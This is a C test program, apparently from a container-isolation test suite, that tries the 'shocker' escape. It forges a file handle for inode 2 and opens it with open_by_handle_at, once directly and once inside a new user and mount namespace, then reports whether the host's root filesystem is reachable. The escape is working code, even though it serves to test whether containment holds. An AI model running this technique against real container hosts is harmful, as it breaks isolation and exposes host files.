/* open_by_handle_at(2), the "shocker" escape: a file handle names an inode
 * of a filesystem without a path, so it can open directories outside the
 * container's root when the root lives on a host filesystem.
 *
 *   esc_open_by_handle [HOST-PATH]
 *
 * Builds the handle of inode 2 (the root directory of an ext2/3/4
 * filesystem, FILEID_INO32_GEN with generation 0) and opens it relative to
 * "/".  The attempt succeeded when the directory opened is not this
 * root, and -- with HOST-PATH, a file the test made on the host -- when
 * that file is reachable below it.  Tried directly and again inside a new
 * user and mount namespace (where the kernel's relaxed checks apply). */
#define _GNU_SOURCE
#include <fcntl.h>
#include <sched.h>
#include <sys/stat.h>
#include <sys/wait.h>

#include "escape.h"

static void attempt(const char *name, const char *host_path)
{
    int mfd = open("/", O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (mfd < 0)
        esc_error("open /: %s", strerror(errno));
    struct {
        struct file_handle fh;
        unsigned int ino_gen[2];
    } h;
    memset(&h, 0, sizeof(h));
    h.fh.handle_bytes = sizeof(h.ino_gen);
    h.fh.handle_type = 1; /* FILEID_INO32_GEN */
    h.ino_gen[0] = 2;
    h.ino_gen[1] = 0;
    int fd = open_by_handle_at(mfd, &h.fh, O_RDONLY | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0) {
        esc_blocked_errno(name, "open_by_handle_at(inode 2)");
        close(mfd);
        return;
    }
    struct stat got, root;
    if (fstat(fd, &got) < 0 || fstat(mfd, &root) < 0)
        esc_error("fstat: %s", strerror(errno));
    if (got.st_dev == root.st_dev && got.st_ino == root.st_ino) {
        esc_result(name, 0, "open_by_handle_at(inode 2) opened this root itself");
    } else if (host_path != NULL && host_path[0] == '/' && faccessat(fd, host_path + 1, F_OK, 0) == 0) {
        esc_result(name, 1, "open_by_handle_at(inode 2) opened the host's root: %s is reachable", host_path);
    } else {
        esc_result(name, 1, "open_by_handle_at(inode 2) opened a directory outside this root (%lu:%lu)",
                   (unsigned long)got.st_dev, (unsigned long)got.st_ino);
    }
    close(fd);
    close(mfd);
}

int main(int argc, char **argv)
{
    const char *host_path = argc > 1 ? argv[1] : NULL;
    attempt("open_by_handle", host_path);

    /* The same from a nested user + mount namespace: report through a pipe. */
    fflush(stdout);
    pid_t pid = fork();
    if (pid < 0)
        esc_error("fork: %s", strerror(errno));
    if (pid == 0) {
        if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) {
            esc_info("userns_open_by_handle", "unshare(CLONE_NEWUSER|CLONE_NEWNS): %s (nothing to try)",
                     strerror(errno));
            _exit(3);
        }
        attempt("userns_open_by_handle", host_path);
        _exit(esc_n_succeeded ? 1 : 0);
    }
    int st;
    if (waitpid(pid, &st, 0) < 0)
        esc_error("waitpid: %s", strerror(errno));
    if (WIFEXITED(st) && WEXITSTATUS(st) == 1)
        esc_n_succeeded++;
    else if (WIFEXITED(st) && WEXITSTATUS(st) == 0)
        esc_n_blocked++;
    else if (!WIFEXITED(st) || WEXITSTATUS(st) != 3)
        esc_error("the user-namespace child ended with status %#x", st);
    return esc_finish();
}
